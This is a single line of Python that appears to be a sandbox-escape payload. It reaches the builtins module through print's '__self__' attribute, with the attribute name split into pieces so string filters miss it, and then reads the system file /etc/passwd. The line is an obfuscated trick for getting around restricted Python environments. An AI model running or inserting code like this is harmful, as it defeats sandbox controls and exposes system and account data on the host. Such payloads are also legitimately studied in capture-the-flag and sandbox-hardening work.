return getattr(print, "__se" + "lf__").open("/etc/passwd").read()
